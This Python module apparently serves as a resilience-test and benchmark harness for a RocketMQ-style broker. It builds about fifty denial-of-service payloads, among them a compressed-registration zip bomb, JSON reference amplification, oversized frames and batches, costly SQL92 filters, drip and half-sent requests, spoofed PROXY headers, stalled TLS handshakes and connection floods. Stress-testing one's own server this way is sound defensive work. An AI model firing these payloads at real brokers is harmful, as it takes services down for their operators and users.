"""Every attack on a server that is known to have worked once, or ought to be tried: what a peer sends, and how.

Used by bench/attack.py, which measures what another client notices, and by tests/system/test_attacks.py.

    pipeline  ask without end, and read the answers
    unread    ask without end, and read nothing
    hold      ask once on each connection, and stay
    churn     connect, ask, go
    drip      one byte at a time
"""

import base64
import contextlib
import hmac
import json
import ssl
import struct
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache
from typing import Any, Final, Literal

__all__ = [
    "ATTACKS",
    "SECRET",
    "TOPIC",
    "USER",
    "Attack",
    "How",
    "Target",
    "frame",
    "ping",
    "route",
    "send",
    "signed_send",
]

TOPIC: Final = "Attacked"
MIB: Final = 1 << 20
WORDS: Final = struct.Struct(">II")
How = Literal["pipeline", "unread", "hold", "churn", "drip"]
# "replicas" is the port for slaves of a broker, "access" a broker with access control, "tls" one that takes TLS, too.
Target = Literal["broker", "nameserver", "metrics", "replicas", "access", "tls"]
USER: Final = "operator"  # of a broker with access control; everybody else is a stranger
SECRET: Final = "a secret of eighteen"


@dataclass(slots=True, frozen=True)
class Attack:
    """What one kind of hostile peer does. `make` gives the bytes of the request with a number, each time others."""

    name: str
    target: Target
    how: How
    make: Callable[[int], bytes]
    connections: int = 1


def frame(
    code: int, opaque: int, fields: dict[str, str], body: bytes = b"", *, oneway: bool = False
) -> bytes:
    head = {
        "code": code,
        "extFields": fields,
        "flag": 2 if oneway else 0,
        "language": "JAVA",
        "opaque": opaque,
        "version": 475,
    }
    header = json.dumps(head, separators=(",", ":")).encode()
    return WORDS.pack(4 + len(header) + len(body), len(header)) + header + body


def send(
    number: int, topic: str = TOPIC, body: bytes = b"x" * 128, queue: int = 0, properties: str = ""
) -> bytes:
    """One message, as official clients send it."""
    return frame(310, number, _send_fields(topic, queue, properties), body)


def signed_send(number: int, user: str = USER, secret: str = SECRET) -> bytes:
    """One message of a user of access control."""
    body, fields = b"x" * 128, {**_send_fields(TOPIC), "AccessKey": user}
    content = "".join(fields[name] for name in sorted(fields)).encode() + body
    signature = base64.b64encode(hmac.digest(secret.encode(), content, "sha1")).decode()
    return frame(310, number, {**fields, "Signature": signature}, body)


def ping(number: int) -> bytes:
    """The smallest question."""
    return frame(31999, number, {})


def route(number: int, topic: str = TOPIC) -> bytes:
    """A question to a nameserver."""
    return frame(105, number, {"topic": topic})


def _send_fields(topic: str, queue: int = 0, properties: str = "", *, batch: bool = False) -> dict[str, str]:
    return {
        "a": "attackers", "b": topic, "c": "TBW102", "d": "4", "e": str(queue), "f": "0", "g": "1763700000000",
        "h": "0", "i": properties, "j": "0", "k": "false", "m": "true" if batch else "false",
    }  # fmt: skip


def _pull(number: int, offset: int = 0, *, hold_ms: int = 0, body: bytes = b"", **more: str) -> bytes:
    fields = {
        "consumerGroup": "attackers", "topic": TOPIC, "queueId": "0", "queueOffset": str(offset), "maxMsgNums": "32",
        "sysFlag": "6" if hold_ms else "4", "commitOffset": "0", "suspendTimeoutMillis": str(hold_ms),
        "subscription": "*", "subVersion": str(number), "expressionType": "TAG", **more,
    }  # fmt: skip
    return frame(11, number, fields, body)


def _json(value: Any) -> bytes:
    return json.dumps(value, separators=(",", ":")).encode()


def _heartbeat(number: int, body: bytes) -> bytes:
    return frame(34, number, {}, body)


def _filled(start: bytes, one: bytes, size: int) -> bytes:
    return start + b",".join([one] * ((size - 64) // (len(one) + 1))) + b"]}"


@cache
def _near_json(size: int) -> bytes:
    return _filled(b"{'clientID':'x','a':[", b"{}", size)


@cache
def _references() -> bytes:
    entry = {"topic": "t", "subString": "*", "tagsSet": [], "codeSet": []}
    first = {"groupName": "g", "subscriptionDataSet": [entry] * 9000}
    again = {"groupName": "h", "subscriptionDataSet": {"$ref": "$.consumerDataSet[0].subscriptionDataSet"}}
    return _json({"clientID": "x", "consumerDataSet": [first, *[again] * 60]})


def _subscriptions(number: int) -> bytes:
    """Ten thousand, of a client of its own each time."""
    wanted = [{"topic": f"t{i}", "subString": "*", "subVersion": number} for i in range(10_000)]
    group = {
        "groupName": f"g{number % 20}",
        "consumeType": "CONSUME_PASSIVELY",
        "subscriptionDataSet": wanted,
    }
    return _heartbeat(
        number, _json({"clientID": f"c{number}", "consumerDataSet": [group], "producerDataSet": []})
    )


def _clients(number: int) -> bytes:
    return _heartbeat(number, _json({"clientID": f"c{number}", "producerDataSet": [{"groupName": "crowd"}]}))


def _members(number: int) -> bytes:
    """Two hundred members of one group, on one connection."""
    group = {"groupName": "throng", "consumeType": "CONSUME_PASSIVELY", "messageModel": "CLUSTERING"}
    return b"".join(
        _heartbeat(one, _json({"clientID": f"c{number}-{one}", "consumerDataSet": [group]}))
        for one in range(200)
    )


def _groups(number: int) -> bytes:
    made = [{"groupName": f"g{number}-{i}", "consumeType": "CONSUME_PASSIVELY"} for i in range(2000)]
    return _heartbeat(number, _json({"clientID": "x", "consumerDataSet": made, "producerDataSet": []}))


def _tags(number: int) -> bytes:
    return _pull(number, subscription=" || ".join(f"t{number}-{i}" for i in range(1200)))


@cache
def _entry(body: bytes, properties: bytes = b"") -> bytes:
    size = 22 + len(body) + len(properties)
    head = struct.pack(">IIIiI", size, 0, 0, 0, len(body))
    return head + body + struct.pack(">H", len(properties)) + properties


def _batch(number: int) -> bytes:
    return frame(320, number, _send_fields(TOPIC, batch=True), _entry(b"x") * 180_000)


def _batch_of_properties(number: int) -> bytes:
    one = _entry(b"x", b"".join(b"k%d\x01v\x02" % i for i in range(3500)))
    return frame(320, number, _send_fields(TOPIC, batch=True), one * (4 * MIB // len(one)))


def _keys(number: int) -> bytes:
    fields = {"topic": TOPIC, "key": f"k{number}", "maxNum": "32", "beginTimestamp": "0", "endTimestamp": "1"}
    return frame(12, number, fields)


def _check_filter(number: int) -> bytes:
    kinds = (
        " AND ".join(f"a{i}={i}" for i in range(700)),
        "(" * 60 + "a=1" + ")" * 60 + " OR a=1" * 1100,
        "NOT " * 2000 + "a=1",
        "a = " + "+".join(["1"] * 4000),
    )
    data = {"topic": TOPIC, "subString": kinds[number % 4], "expressionType": "SQL92", "subVersion": number}
    return frame(46, number, {}, _json({"clientId": "c", "group": "attackers", "subscriptionData": data}))


def _locks(number: int) -> bytes:
    queues = [{"topic": f"t{number}-{i}", "brokerName": "broker-a", "queueId": 0} for i in range(9000)]
    return frame(41, number, {}, _json({"clientId": "c", "consumerGroup": f"g{number}", "mqSet": queues}))


def _acks(number: int) -> bytes:
    def ack(i: int) -> dict[str, Any]:
        return {
            "c": "g",
            "t": TOPIC,
            "q": 0,
            "so": i,
            "pt": number + i,
            "it": 60_000,
            "b": "/" * 1300,
            "rq": 0,
        }

    return frame(200151, number, {}, _json({"brokerName": "broker-a", "acks": [ack(i) for i in range(180)]}))


def _settings(number: int) -> bytes:
    return frame(25, number, {}, b"".join(b"k%d=b\n" % (number + i) for i in range(6000)))


def _names_settings(number: int) -> bytes:
    return frame(318, number, {}, b"".join(b"k%d=b\n" % (number + i) for i in range(6000)))


def _half(number: int) -> bytes:
    return send(number, properties="TRAN_MSG\x01true\x02PGROUP\x01attackers\x02", body=b"half")


def _delayed(number: int) -> bytes:
    return send(number, properties="TIMER_DELAY_SEC\x01259000\x02")


def _pop(number: int) -> bytes:
    fields = {
        "consumerGroup": f"g{number % 500}", "topic": TOPIC, "queueId": "-1", "maxMsgNums": "32",
        "invisibleTime": "60000", "pollTime": "60000", "bornTime": "1763700000000", "initMode": "0",
        "attemptId": "a" * 500,
    }  # fmt: skip
    return frame(200050, number, fields)


def _registration(number: int, body: bytes, *, compressed: bool = False) -> bytes:
    fields = {
        "brokerName": f"b{number % 1000}", "brokerAddr": f"1.2.3.4:{number % 60_000 + 1}", "clusterName": "c",
        "brokerId": "0", "haServerAddr": "", "bodyCrc32": "0", "compressed": "true" if compressed else "false",
    }  # fmt: skip
    return frame(103, number, fields, body)


@cache
def _inflated() -> bytes:
    """Ten KiB that become ten MiB of near-JSON: the servers of a compressed registration."""
    version = _json({"counter": 1, "timestamp": 1, "stateVersion": 0})
    servers = b"['" + b"','".join([b"a"] * 2_600_000) + b"']"
    parts = struct.pack(">I", len(version)) + version + struct.pack(">I", 0)
    return zlib.compress(parts + struct.pack(">I", len(servers)) + servers, 9)


@cache
def _many_topics() -> bytes:
    table = {
        f"t{i}": {"topicName": f"t{i}", "readQueueNums": 1, "writeQueueNums": 1, "perm": 6}
        for i in range(60_000)
    }
    wrapper = {"topicConfigTable": table, "dataVersion": {"counter": 1, "timestamp": 1, "stateVersion": 0}}
    return _json({"filterServerList": [], "topicConfigSerializeWrapper": wrapper})


def _kv(number: int) -> bytes:
    fields = {"namespace": f"n{number}", "key": "k" * 60_000, "value": "v" * 60_000}
    return frame(100, number, fields)


def _garbage(number: int) -> bytes:
    return (b"GET / HTTP/1.1\r\n\r\n", b"\xff" * 64, b"\x16\x03\x01\x02\x00" + b"\x01" * 60, b"\x00" * 64)[
        number % 4
    ]


@cache
def _hello_of_tls(_: int) -> bytes:
    """What a client of TLS says first; what it is answered it does not read."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    said, heard = ssl.MemoryBIO(), ssl.MemoryBIO()
    talk = context.wrap_bio(heard, said)
    with contextlib.suppress(ssl.SSLWantReadError):
        talk.do_handshake()
    return said.read()


def _proxied(number: int) -> bytes:
    """A PROXY header of somebody who is no proxy, and a request behind it."""
    return b"PROXY TCP4 10.0.0.%d 10.0.0.1 40000 10911\r\n" % (number % 250 + 1) + send(number)


def _watch(number: int) -> bytes:
    """What slaves ask for news of tables."""
    fields = {"member": str(number), "life": "", "tables": "-1", "offsets": "-1", "millis": "30000"}
    return frame(31994, number, fields)


def _report_of_slave(_: int) -> bytes:
    """As a slave of RocketMQ: it has nothing, and wants all of the log."""
    return struct.pack(">q", 0)


def _scrape(_: int) -> bytes:
    return b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n"


def _half_scrape(_: int) -> bytes:
    return b"GET /met"


def _nothing(_: int) -> bytes:
    return b""


def _attacks() -> Iterator[Attack]:
    # What succeeded once: a stall of others, memory without end, a full table, an end of the process.
    yield Attack(
        "near-JSON of 4 MiB in heartbeats", "broker", "pipeline", lambda n: _heartbeat(n, _near_json(4 * MIB))
    )
    yield Attack(
        "references to references in heartbeats", "broker", "pipeline", lambda n: _heartbeat(n, _references())
    )
    yield Attack(
        "held pulls with bodies of 8 MiB", "broker", "hold",
        lambda n: _pull(n, 1 << 40, hold_ms=60_000, body=b"x" * (8 * MIB)), 30,
    )  # fmt: skip
    yield Attack(
        "held pulls with headers of 900 KiB", "broker", "pipeline",
        lambda n: _pull(n, 1 << 40, hold_ms=60_000, filler="x" * 900_000), 2,
    )  # fmt: skip
    yield Attack(
        "held pulls, one after the other", "broker", "pipeline", lambda n: _pull(n, 1 << 40, hold_ms=60_000)
    )
    yield Attack("sends to ever new topics", "broker", "pipeline", lambda n: send(n, f"New{n}"))
    yield Attack(
        "sends to every queue of many topics",
        "broker",
        "pipeline",
        lambda n: send(n, f"Wide{n % 97}", queue=n % 4),
    )
    yield Attack("heartbeats of 10,000 subscriptions", "broker", "pipeline", _subscriptions)
    yield Attack("heartbeats of ever new clients", "broker", "pipeline", _clients)
    yield Attack("many members that come and go together", "broker", "churn", _members, 4)
    yield Attack("heartbeats of ever new groups", "broker", "pipeline", _groups)
    yield Attack("ever new tag expressions of 16 KiB", "broker", "pipeline", _tags)
    yield Attack("batches of 180,000 messages", "broker", "pipeline", _batch)
    yield Attack("batches of many properties", "broker", "pipeline", _batch_of_properties)
    yield Attack("answers that nobody reads", "broker", "unread", lambda n: _pull(n), 8)
    yield Attack("topic lists that nobody reads", "broker", "unread", lambda n: frame(21, n, {}), 8)
    yield Attack("key queries of long ago", "broker", "pipeline", _keys)
    yield Attack("SQL92 filters to check", "broker", "pipeline", _check_filter)
    yield Attack("lists of locks", "broker", "pipeline", _locks)
    yield Attack("bit sets of acknowledgements", "broker", "pipeline", _acks)
    yield Attack("settings that nobody knows", "broker", "pipeline", _settings)
    yield Attack("transactions without an end", "broker", "pipeline", _half)
    yield Attack("messages for days ahead", "broker", "pipeline", _delayed)
    yield Attack("held pops of many groups", "broker", "pipeline", _pop)
    yield Attack("topic lists, one after the other", "broker", "pipeline", lambda n: frame(21, n, {}))
    yield Attack("unknown codes", "broker", "pipeline", lambda n: frame(9999, n, {}))
    yield Attack(
        "one-way requests without end", "broker", "unread", lambda n: frame(34, n, {}, b"{}", oneway=True), 2
    )
    # Bytes and connections.
    yield Attack(
        "a giant header that never comes",
        "broker",
        "churn",
        lambda _: WORDS.pack(15 * MIB, 14 * MIB) + b"{" * 1000,
    )
    yield Attack(
        "frames of 16 MiB that never end",
        "broker",
        "hold",
        lambda _: WORDS.pack(16 * MIB - 8, 100) + b"x" * (8 * MIB),
        20,
    )
    yield Attack("byte by byte", "broker", "drip", lambda n: send(n), 50)
    yield Attack("bytes that are no frames", "broker", "churn", _garbage, 4)
    yield Attack("connections that say nothing", "broker", "hold", _nothing, 800)
    yield Attack("connections that come and go", "broker", "churn", _nothing, 4)
    yield Attack("headers of proxies that nobody has named", "broker", "churn", _proxied, 4)
    yield Attack("news of tables for members that are none", "broker", "pipeline", _watch, 2)
    # Who is asked for more than bytes.
    yield Attack(
        "signatures that are wrong", "access", "unread", lambda n: signed_send(n, secret="nobody's"), 4
    )
    yield Attack("strangers who name nobody", "access", "unread", lambda n: send(n), 4)
    yield Attack("beginnings of TLS that go no further", "tls", "hold", _hello_of_tls, 200)
    yield Attack("beginnings of TLS, one after the other", "tls", "churn", _hello_of_tls, 4)
    # The port for slaves.
    yield Attack("slaves that say nothing", "replicas", "hold", _nothing, 200)
    yield Attack("slaves that ask for all and read nothing", "replicas", "hold", _report_of_slave, 50)
    yield Attack("slaves that come, ask for all, and go", "replicas", "churn", _report_of_slave, 4)
    # The nameserver.
    yield Attack(
        "compressed registrations of 10 MiB",
        "nameserver",
        "pipeline",
        lambda n: _registration(n, _inflated(), compressed=True),
    )
    yield Attack(
        "near-JSON of 8 MiB in registrations",
        "nameserver",
        "pipeline",
        lambda n: _registration(n, _near_json(8 * MIB)),
    )
    yield Attack(
        "registrations of 60,000 topics", "nameserver", "pipeline", lambda n: _registration(n, _many_topics())
    )
    yield Attack("settings that no nameserver knows", "nameserver", "pipeline", _names_settings)
    yield Attack("key-value settings of 120 KiB", "nameserver", "pipeline", _kv)
    yield Attack(
        "routes of topics that are not there", "nameserver", "pipeline", lambda n: route(n, f"no{n}")
    )
    yield Attack("nameserver connections that say nothing", "nameserver", "hold", _nothing, 800)
    # The port for operators.
    yield Attack("scrapes without end", "metrics", "churn", _scrape, 8)
    yield Attack("half of a scrape, on many connections", "metrics", "hold", _half_scrape, 300)


ATTACKS: Final = tuple(_attacks())
